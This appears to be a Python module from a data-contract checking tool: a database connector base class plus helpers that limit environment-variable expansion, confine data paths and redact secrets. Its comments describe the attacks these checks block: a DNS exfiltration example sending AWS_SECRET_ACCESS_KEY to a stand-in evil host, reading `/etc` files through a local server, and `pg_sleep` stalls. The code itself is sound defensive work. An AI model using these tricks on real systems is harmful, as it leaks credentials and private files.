"""The connector interface and the helpers every connector shares."""

from __future__ import annotations

import os
import re
from abc import ABC, abstractmethod
from collections.abc import Sequence
from typing import TYPE_CHECKING, Any, Self

from lockgate.errors import LockgateError

if TYPE_CHECKING:
    import ibis
    import pandas as pd

    from lockgate.contract import rules as ir

_ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
# A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
# of the CI job out in a DNS lookup. Contracts may name only lockgate's own variables, and never
# the credentials (those are read by the connectors themselves).
ENV_PREFIX = "LOCKGATE_"
CREDENTIAL_VARIABLES = frozenset({"LOCKGATE_POSTGRES_PASSWORD", "LOCKGATE_POSTGRES_USER"})


def expand_env(value: Any) -> Any:
    """`${LOCKGATE_VAR}` and `${LOCKGATE_VAR:-default}` in server fields, so paths and hosts stay
    out of contracts."""
    if not isinstance(value, str):
        return value

    def replace(match: re.Match[str]) -> str:
        name, default = match.group(1), match.group(2)
        if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
            raise LockgateError(
                f"a contract may only use {ENV_PREFIX}* environment variables other than the "
                f"credentials; ${{{name}}} is not allowed (SECURITY.md)"
            )
        if name in os.environ:
            return os.environ[name]
        if default is not None:
            return default
        raise LockgateError(f"environment variable {name} is not set (used in a server definition)")

    return _ENV.sub(replace, value)


DATA_ROOTS_ENV = "LOCKGATE_DATA_ROOTS"


def check_data_path(path: str, server_name: str) -> None:
    """With LOCKGATE_DATA_ROOTS set (paths separated by the OS path separator), a DuckDB file
    or local data path must lie inside one of them: a contract names its own files, and a
    `local` server on `/etc/{object}` with format csv would otherwise read any text file the
    process can (its rows come back as failure samples)."""
    roots = [r for r in (os.environ.get(DATA_ROOTS_ENV) or "").split(os.pathsep) if r.strip()]
    if not roots or path == ":memory:":
        return
    resolved = os.path.realpath(path)
    inside = (os.path.join(os.path.realpath(r), "") for r in roots)
    if not any(os.path.join(resolved, "").startswith(root) for root in inside):
        from lockgate.errors import ConnectionFailed

        raise ConnectionFailed(f"server {server_name!r}: its data path is outside {DATA_ROOTS_ENV}")


def env_refusal(value: Any) -> str | None:
    """Why `value` (a server field) may not be expanded, or None; for lint."""
    if not isinstance(value, str):
        return None
    for match in _ENV.finditer(value):
        name = match.group(1)
        if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
            return (
                f"${{{name}}}: a contract may only use {ENV_PREFIX}* environment variables "
                "other than the credentials"
            )
    return None


def redact(text: str, options: dict[str, Any]) -> str:
    """`text` with every value that came from the environment shown as the `${VAR}` the contract
    wrote: a contract must not get a secret printed into a CI log by naming it as a host."""
    for raw in options.values():
        if isinstance(raw, str) and "${" in raw:
            try:
                value = expand_env(raw)
            except LockgateError:
                continue
            if value and value != raw:
                text = text.replace(value, raw)
    return text


class Connector(ABC):
    """A read-only connection to one server. Subclasses set `dialect` (an ibis/sqlglot dialect)."""

    dialect: str
    namespace: str | None  # the schema that holds the contract's tables
    # whether a compiled plan may be reused by a later check (lockgate.engines.sql.plan_cache)
    plans_cacheable: bool = True

    @abstractmethod
    def columns(self, table: str) -> list[tuple[str, str]] | None:
        """(name, native type) of a table's columns in order, or None when the table does not
        exist."""

    @abstractmethod
    def fetch(self, sql: str) -> tuple[list[str], list[tuple[Any, ...]]]:
        """Run one query; return column names and rows."""

    @abstractmethod
    def type_parser(self) -> Any:
        """The ibis type parser of this dialect (`from_string`)."""

    # an optional hook (no-op by default), not an abstract method
    def close(self) -> None:  # noqa: B027  # pragma: no cover - trivial
        pass

    def unsupported(self, rule: ir.Rule) -> str | None:
        """Why this server cannot check `rule` (a failed result says so), or None."""
        return None

    def adapt(self, rule: ir.Rule) -> ir.Rule:
        """`rule` as this server must run it to mean what it means elsewhere (e.g. a pattern
        in the server's regex dialect); most servers run it as it is."""
        return rule

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    # -- shared ----------------------------------------------------------------------------------

    def table_expr(self, table: str) -> ibis.Table | None:
        """An unbound ibis table with the live column types, or None when the table is missing."""
        # ibis and sqlglot are imported where a plan is built, not with the connector: a check
        # whose plan is cached (lockgate.engines.sql.plan_cache) needs neither
        import ibis
        import ibis.expr.datatypes as dt

        cols = self.columns(table)
        if cols is None:
            return None
        parse = self.type_parser().from_string
        schema = {}
        for name, native in cols:
            try:
                schema[name] = parse(native)
            except Exception:
                # an exotic type ibis cannot name: still checkable for nulls/duplicates
                schema[name] = dt.unknown
        return ibis.table(ibis.schema(schema), name=table, database=self.namespace)

    def to_sql(self, expr: ibis.Expr, star: Sequence[str] | None = None) -> str:
        """SQL text of an ibis expression; `star`: the columns a `SELECT *` must name instead
        (for expressions built on a narrowed table, `lockgate.engines.sql.scan_batches`)."""
        from lockgate.connectors.dialect_sql import compile_sql

        return compile_sql(expr, self.dialect, star=star)

    def quote_table(self, table: str) -> str:
        from sqlglot import exp

        return exp.table_(table, db=self.namespace, quoted=True).sql(dialect=self.dialect)

    def quote_column(self, column: str) -> str:
        from sqlglot import exp

        return exp.to_identifier(column, quoted=True).sql(dialect=self.dialect)

    def fetch_rule_value(self, sql: str) -> Any:
        """The value of a contract's own SQL rule: `fetch_value` under the statement timeout
        (`LOCKGATE_STATEMENT_TIMEOUT`); connectors whose database has no timeout of its own
        override it."""
        return self.fetch_value(sql)

    def fetch_frame(self, table: str) -> pd.DataFrame:
        """The whole table as a pandas DataFrame (for the frame engine)."""
        raise LockgateError(f"a {type(self).__name__} cannot read tables into DataFrames")

    def fetch_value(self, sql: str) -> Any:
        names, rows = self.fetch(sql)
        if not rows:
            return None
        return rows[0][0]


TIMEOUT_ENV = "LOCKGATE_STATEMENT_TIMEOUT"
# A check's fused scan of a large table takes seconds; a rule that runs for minutes is a
# mistake or an attack (`pg_sleep`, a cross join). PostgreSQL's units: "30s", "5min", "500ms".
DEFAULT_STATEMENT_TIMEOUT = "30s"
_UNITS = {"ms": 0.001, "s": 1.0, "min": 60.0, "h": 3600.0, "": 0.001}  # PostgreSQL: bare = ms


def statement_timeout() -> str:
    return os.environ.get(TIMEOUT_ENV) or DEFAULT_STATEMENT_TIMEOUT


def statement_timeout_seconds() -> float:
    """`statement_timeout()` in seconds (0: none), read the way PostgreSQL reads the setting."""
    match = re.fullmatch(r"\s*([0-9.]+)\s*(ms|s|min|h)?\s*", statement_timeout())
    if not match:
        shown = f"{TIMEOUT_ENV}={statement_timeout()!r}"
        raise LockgateError(f"{shown}: expected e.g. 30s, 500ms, 5min")
    return float(match.group(1)) * _UNITS[match.group(2) or ""]
